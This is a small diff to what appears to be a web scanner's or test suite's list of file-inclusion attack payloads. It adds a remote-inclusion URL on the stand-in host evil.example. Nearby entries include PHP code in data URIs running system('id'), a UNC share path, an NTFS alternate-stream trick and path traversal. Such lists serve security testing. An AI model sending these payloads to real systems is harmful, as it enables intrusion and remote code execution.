@@ -46,6 +46,7 @@ ATTACKS = [
     ("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", QUERY),
     ("data:text/plain,<?php system('id'); ?>", QUERY),
     ("http://evil.example/shell.txt?", Slot("query", "page")),
+    ("http://evil.example/e.php", Slot("query", "template")),
     ("\\\\10.0.0.5\\share\\x.php", QUERY),
     ("web.config::$DATA", FILE),
     ("../../../../../../../lib/", QUERY),
